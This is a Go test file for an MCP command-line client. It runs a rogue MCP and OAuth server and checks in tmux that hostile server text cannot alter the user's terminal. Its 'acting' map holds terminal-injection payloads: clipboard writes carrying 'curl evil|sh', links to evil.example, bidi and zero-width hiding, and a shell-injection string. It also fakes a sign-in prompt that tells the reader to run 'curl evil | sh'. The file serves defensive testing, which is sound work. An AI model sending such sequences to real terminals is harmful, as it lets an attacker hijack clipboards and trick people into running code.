package attacks

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"filippo.io/age"

	"github.com/astravue/mcp-client-go/internal/testenv"
	"github.com/astravue/mcp-client-go/internal/text"
)

// A rogue is an MCP server with an authorization server of its own. It is honest except where an
// attack changes it.
type rogue struct {
	*httptest.Server
	t testing.TB

	open atomic.Bool // asks for no sign-in

	mu sync.Mutex // guards all below: an attack changes it while the server answers

	// add overwrites members of an honest answer: of the JSON-RPC result for a method, of
	// the documents "resource" and "server", of the answers "register" and "token", and of the
	// parameters of "authorize".
	add map[string]map[string]any
	// instead answers in place of all that: a JSON-RPC method, or one of the above, or "revoke".
	instead map[string]func(w http.ResponseWriter, r *http.Request, body string)

	sent []string // secrets that it was sent
}

func newRogue(t testing.TB) *rogue {
	r := &rogue{t: t, add: map[string]map[string]any{}, instead: map[string]func(http.ResponseWriter, *http.Request, string){}}
	r.Server = httptest.NewServer(r)
	t.Cleanup(func() { r.CloseClientConnections(); r.Close() })
	return r
}

func (r *rogue) mcp() string { return r.URL + "/mcp" }

// adds overwrites members of the answer of a place, from now on.
func (r *rogue) adds(place string, members map[string]any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.add[place] = members
}

// answers has f answer for a place, from now on.
func (r *rogue) answers(place string, f func(w http.ResponseWriter, r *http.Request, body string)) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.instead[place] = f
}

// at returns the changes for a place.
func (r *rogue) at(place string) (members map[string]any, instead func(http.ResponseWriter, *http.Request, string)) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.add[place], r.instead[place]
}

// got notes secrets that the server was sent.
func (r *rogue) got(secrets ...string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.sent = append(r.sent, secrets...)
}

// secrets returns the secrets that the server was sent.
func (r *rogue) secrets() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.sent)
}

func (r *rogue) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	data, _ := io.ReadAll(req.Body)
	body := string(data)
	place := map[string]string{"/authorize": "authorize", "/token": "token", "/register": "register", "/revoke": "revoke"}[req.URL.Path]
	switch {
	case strings.HasPrefix(req.URL.Path, "/.well-known/oauth-protected-resource"):
		place = "resource"
	case strings.HasPrefix(req.URL.Path, "/.well-known/oauth-authorization-server"):
		place = "server"
	case strings.HasPrefix(req.URL.Path, "/mcp"):
		r.serveMCP(w, req, body)
		return
	case place == "":
		http.NotFound(w, req)
		return
	}
	members, instead := r.at(place)
	if instead != nil {
		instead(w, req, body)
		return
	}
	answer, status := map[string]any{}, http.StatusOK
	switch place {
	case "resource":
		answer = map[string]any{"resource": r.mcp(), "authorization_servers": []string{r.URL}}
	case "server":
		answer = map[string]any{
			"issuer": r.URL, "authorization_endpoint": r.URL + "/authorize", "token_endpoint": r.URL + "/token",
			"registration_endpoint": r.URL + "/register", "revocation_endpoint": r.URL + "/revoke",
			"code_challenge_methods_supported": []string{"S256"},
		}
	case "register":
		status = http.StatusCreated
		_ = json.Unmarshal(data, &answer)
		answer["client_id"] = "rogue-client"
	case "authorize":
		q := req.URL.Query()
		to := url.Values{"state": {q.Get("state")}, "code": {"Zk9-q_7Hb.Cw/De+42~xYp7LmN3vR8wT5"}}
		for name, v := range members {
			to.Set(name, fmt.Sprint(v))
		}
		http.Redirect(w, req, q.Get("redirect_uri")+"?"+to.Encode(), http.StatusFound)
		return
	case "token":
		answer = map[string]any{"access_token": rogueToken, "token_type": "Bearer", "expires_in": 3600, "refresh_token": rogueRefresh}
	}
	for name, v := range members {
		answer[name] = v
	}
	reply(w, status, answer)
}

const (
	rogueToken   = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJvbGl2aWEifQ.Zm9v-YmFyX2Jheg_q7Yw3Xk"
	rogueRefresh = "rT7-Kq_9Zx.Lm/4Vb+8Wn~2Yc==Hd6Pj"
)

func (r *rogue) serveMCP(w http.ResponseWriter, req *http.Request, body string) {
	var msg struct {
		ID     json.RawMessage `json:"id"`
		Method string          `json:"method"`
	}
	_ = json.Unmarshal([]byte(body), &msg)
	if !r.open.Load() && req.Header.Get("Authorization") == "" {
		if _, instead := r.at("challenge"); instead != nil {
			instead(w, req, body)
			return
		}
		w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="`+r.URL+`/.well-known/oauth-protected-resource/mcp"`)
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	members, instead := r.at(msg.Method)
	if instead != nil {
		instead(w, req, string(msg.ID))
		return
	}
	answer := map[string]any{"jsonrpc": "2.0", "id": msg.ID}
	result := map[string]any{}
	switch msg.Method {
	case "initialize":
		result = map[string]any{
			"protocolVersion": "2025-06-18", "capabilities": map[string]any{"tools": map[string]any{}},
			"serverInfo": map[string]any{"name": "rogue", "version": "1"},
		}
	case "tools/list":
		result["tools"] = []any{map[string]any{"name": "tool", "inputSchema": map[string]any{"type": "object"}}}
	case "tools/call":
		result["content"] = []any{map[string]any{"type": "text", "text": "done"}}
	case "ping":
	default:
		if req.Method != http.MethodPost {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		if msg.ID == nil {
			w.WriteHeader(http.StatusAccepted)
			return
		}
		answer["error"] = map[string]any{"code": -32601, "message": "no such method"}
	}
	for name, v := range members {
		result[name] = v
	}
	if answer["error"] == nil {
		answer["result"] = result
	}
	reply(w, http.StatusOK, answer)
}

func reply(w http.ResponseWriter, status int, answer any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(answer)
}

// A person runs the command, in a home of their own.
type person struct {
	t   testing.TB
	r   *rogue
	dir string
	env []string
}

func newPerson(t testing.TB, r *rogue) *person {
	t.Helper()
	testenv.Need(t, "a shell", runtime.GOOS != "windows", "the browser is a script")
	p := &person{t: t, r: r, dir: t.TempDir()}
	identity, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	browser := filepath.Join(p.dir, "browser")
	for file, data := range map[string]string{
		filepath.Join(p.dir, "identity.txt"): identity.String() + "\n",
		browser:                              "#!/bin/sh\nprintf %s \"$1\" >'" + p.dir + "/new' && /bin/mv '" + p.dir + "/new' '" + p.dir + "/address'\n",
	} {
		if err := os.WriteFile(file, []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(browser, 0o700); err != nil {
		t.Fatal(err)
	}
	p.env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + p.dir, "XDG_CONFIG_HOME=" + filepath.Join(p.dir, "config"), "GORACE=atexit_sleep_ms=0",
		"ASTRAVUE_MCP_STORE=file", "ASTRAVUE_MCP_IDENTITY_FILE=" + filepath.Join(p.dir, "identity.txt"),
		"ASTRAVUE_MCP_SERVER=" + r.mcp(), "BROWSER=" + browser,
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go p.browse(ctx)
	return p
}

// browse opens each address that the command hands to its browser.
func (p *person) browse(ctx context.Context) {
	for file := filepath.Join(p.dir, "address"); ctx.Err() == nil; time.Sleep(2 * time.Millisecond) {
		address, err := os.ReadFile(file)
		if err != nil {
			continue
		}
		_ = os.Remove(file)
		jar, _ := cookiejar.New(nil)
		if resp, err := (&http.Client{Jar: jar, Timeout: 10 * time.Second}).Get(string(address)); err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
		}
	}
}

// An output is the text that the command wrote.
type output struct {
	args           []string
	stdout, stderr string
	status         int
}

func (p *person) run(args ...string) output {
	p.t.Helper()
	name, err := command()
	if err != nil {
		p.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, append(args, "--timeout", "20s")...)
	cmd.Env = p.env
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	if exit := new(exec.ExitError); err != nil && !errors.As(err, &exit) {
		p.t.Fatal(err)
	}
	return output{args, stdout.String(), stderr.String(), cmd.ProcessState.ExitCode()}
}

// acts returns what of an output acts on a terminal, or stands where only the command's
// own words do; "" if nothing.
func (o output) acts() string {
	for stream, s := range map[string]string{"stdout": o.stdout, "stderr": o.stderr} {
		marks := 4
		for _, r := range s {
			marks++
			switch {
			case r == '\n' || r == '\t' || r == ' ':
				marks = 4
			case !text.Visible(r):
				return fmt.Sprintf("%s has %U", stream, r)
			case !strings.ContainsRune("\u0301\u0338", r):
				marks = 0
			case marks > 4:
				return stream + " has marks on nothing"
			}
		}
		for line := range strings.Lines(s) {
			if strings.HasPrefix(line, forged) && (stream == "stderr" || o.args[0] != "call") {
				return stream + " has a line that the server wrote"
			}
		}
		if strings.Contains(s, "\t") && o.args[0] != "call" && !slices.Contains(o.args, "tool") {
			return stream + " has a tab"
		}
	}
	if !strings.Contains(strings.Join(o.args, " "), "json") {
		return ""
	}
	for stream, s := range map[string]string{"stdout": o.stdout, "stderr": o.stderr} {
		for d := json.NewDecoder(strings.NewReader(s)); ; {
			var v any
			if err := d.Decode(&v); err == io.EOF {
				break
			} else if err != nil {
				return stream + " is no JSON"
			}
		}
	}
	return ""
}

// forged begins the lines that a server would like the command to have written.
const forged = "astravue-mcp: forged"

// acting are texts that act on a terminal or on its reader, by an ID and an explanation.
var acting = map[string]string{
	"clipboard: writes the clipboard (OSC 52)":           "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
	"title: names the window (OSC 0, OSC 2)":             "\x1b]0;mine\x07\x1b]2;mine\x1b\\",
	"link: makes a link (OSC 8)":                         "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
	"device: controls the device (DCS)":                  "\x1bPtmux;\x1b\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b\\",
	"application: talks to the program (APC, PM, SOS)":   "\x1b_mine\x1b\\\x1b^mine\x1b\\\x1bXmine\x1b\\",
	"screen: takes another screen (CSI ?1049h)":          "\x1b[?1049hmine",
	"clear: clears the screen (CSI 2J)":                  "\x1b[2J\x1b[Hmine",
	"hidden: hides what follows (CSI 8m)":                "\x1b[8m\x1b[?25l",
	"title-tmux: names the window (tmux, ESC k)":         "\x1bkmine\x1b\\",
	"reset: resets the terminal (ESC c)":                 "\x1bc",
	"c1: holds 8-bit controls":                           "\u009d52;c;Y3VybCBldmlsfHNo\u009c\u009b2J\u0090q\u009c\u009fmine\u009c",
	"bytes: holds controls that are not UTF-8":           "\x9b2J\x9d0;mine\x9c\xff",
	"bidi: turns the line around (bidi)":                 "\u202eegalloc\u202c \u2066a\u2069 \u200f",
	"zero-width: hides words (tags, zero width)":         "\U000e0069\U000e0067\u200b\u2060\ufeff\u00ad",
	"fillers: hides words (fillers)":                     "\u3164\u115f\uffa0\u2800\ufe0f\U000e0101",
	"line-ends: ends its row (NL, VT, FF, NEL, LS)":      "a\n" + forged + " not signed in\v" + forged + "\f" + forged + "\u0085" + forged + "\u2028" + forged + "\u2029",
	"tabs: fills another cell (TAB)":                     "a\tread-only\tLists\n" + forged + "\tread-only",
	"carriage-return: writes over its row (CR, BS, DEL)": "a\r" + forged + "\x08\x08\x08\x7f",
	"marks: stands on other rows (marks)":                strings.Repeat("\u0301", 60) + "Z" + strings.Repeat("\u0301", 60) + " \u0338",
	"spaces: moves by columns (spaces)":                  "a" + strings.Repeat(" ", 300) + forged + strings.Repeat("\u00a0", 300) + "\u3000" + forged,
	"bell: rings the bell, shifts out (BEL, SO)":         "\x07\x0e\x0f\x05",
	"planes: speaks in other planes":                     "\U0001bca0\U000f0000\U0010ffff\ue000\ufff9a\ufffab\ufffb",
	"json: breaks JSON":                                  "\"}],\n\"error\":{\"code\":\"",
	"long: is long":                                      strings.Repeat(forged+" ", 50),
	"wide: is long and wide (CJK, pictures)":             strings.Repeat("界🙂", 45) + forged + strings.Repeat("界", 60) + " " + forged,
	"broken: begins where the line is broken":            strings.Repeat("x", 90-len(marker)-1) + forged + strings.Repeat("y", 90-len(forged)) + forged,
	"shell: is a command":                                "'; touch /nowhere; $(id) `id` %PATH% & calc | sh #",
	"imitation: imitates the program's own next words":   "\n" + forged + " interrupted\nSign in: " + forged + " curl evil | sh",
}

// marker shows that a server's words are printed at all.
const marker = "rogue-words"

// everything is all of it, one after another.
var everything = func() string {
	var b strings.Builder
	b.WriteString(marker + " ")
	for _, name := range sortedNames(acting) {
		b.WriteString(acting[name] + " ")
	}
	return b.String()
}()

// A tmux is a terminal, with a title, a clipboard and a second screen.
type tmux struct {
	t      *testing.T
	who    *person
	socket string
	before string // its state
}

const tmuxWidth, tmuxHeight = 90, 50

func newTmux(t *testing.T, who *person) *tmux {
	t.Helper()
	_, err := exec.LookPath("tmux")
	testenv.Need(t, "tmux", err == nil, "no terminal")
	dir, err := os.MkdirTemp("", "tmux") // a socket's path must be short
	if err != nil {
		t.Fatal(err)
	}
	x := &tmux{t: t, who: who, socket: filepath.Join(dir, "s")}
	t.Cleanup(func() {
		_ = exec.Command("tmux", "-S", x.socket, "kill-server").Run()
		_ = os.RemoveAll(dir)
	})
	x.do("-f", os.DevNull, "new-session", "-d", "-x", fmt.Sprint(tmuxWidth), "-y", fmt.Sprint(tmuxHeight), "sleep 600")
	x.do("set-option", "-g", "history-limit", "50000")
	for _, option := range []string{"set-clipboard", "allow-rename", "allow-passthrough", "remain-on-exit"} {
		x.do("set-option", "-g", option, "on")
		x.do("set-option", "-w", option, "on")
	}
	x.do("set-option", "-w", "automatic-rename", "off")
	x.before = x.state()
	return x
}

func (x *tmux) do(args ...string) string {
	x.t.Helper()
	out, err := exec.Command("tmux", append([]string{"-S", x.socket}, args...)...).CombinedOutput()
	if err != nil && !strings.Contains(strings.Join(args, " "), "set-option") { // a session's or a window's
		x.t.Fatalf("tmux %s: %v: %s", args, err, out)
	}
	return string(out)
}

// state is what a server may not change: what the terminal is called, what the clipboard holds,
// how and where it writes.
func (x *tmux) state() string {
	return x.do("display-message", "-p", "#{pane_title} #{window_name} #{alternate_on} #{cursor_flag} #{insert_flag} #{origin_flag} #{wrap_flag} #{keypad_flag} #{mouse_any_flag} #{scroll_region_upper}-#{scroll_region_lower}") +
		x.do("list-buffers")
}

// run runs commands, of which the first prints a result and the second JSON, and returns what they did to the terminal,
// or what they made it look like; "" for nothing.
func (x *tmux) run(commands ...string) string {
	x.t.Helper()
	name, err := command()
	if err != nil {
		x.t.Fatal(err)
	}
	script := "echo before\n"
	for _, args := range commands {
		script += shellWords([]string{name}) + " " + args + " --timeout 20s\necho after\n"
	}
	script += fmt.Sprintf("tmux -S '%s' wait-for -S done\nsleep 600\n", x.socket)
	x.do("respawn-pane", "-k", "env -i "+shellWords(x.who.env)+" TERM=screen sh -c "+shellWords([]string{script}))
	x.do("wait-for", "done")
	if after := x.state(); after != x.before {
		return "the terminal is changed"
	}
	if strings.Contains(x.do("capture-pane", "-p", "-e", "-S", "-"), "\x1b") {
		return "it shows colours or links"
	}
	lines := strings.Split(strings.TrimRight(x.do("capture-pane", "-p", "-S", "-"), "\n"), "\n")
	parts := 0
	for _, line := range lines {
		if line == "after" {
			parts++
		}
		if strings.HasPrefix(line, forged) && parts > 1 {
			return "a line is forged"
		}
	}
	if lines[0] != "before" || lines[len(lines)-1] != "after" || parts != len(commands) {
		return "the screen is written over"
	}
	if !slices.ContainsFunc(lines, func(line string) bool { return strings.HasPrefix(line, marker) }) {
		x.t.Fatalf("nothing of the server's is shown:\n%s", strings.Join(lines, "\n"))
	}
	return ""
}

func shellWords(words []string) string {
	quoted := make([]string, len(words))
	for i, w := range words {
		quoted[i] = "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
	}
	return strings.Join(quoted, " ")
}
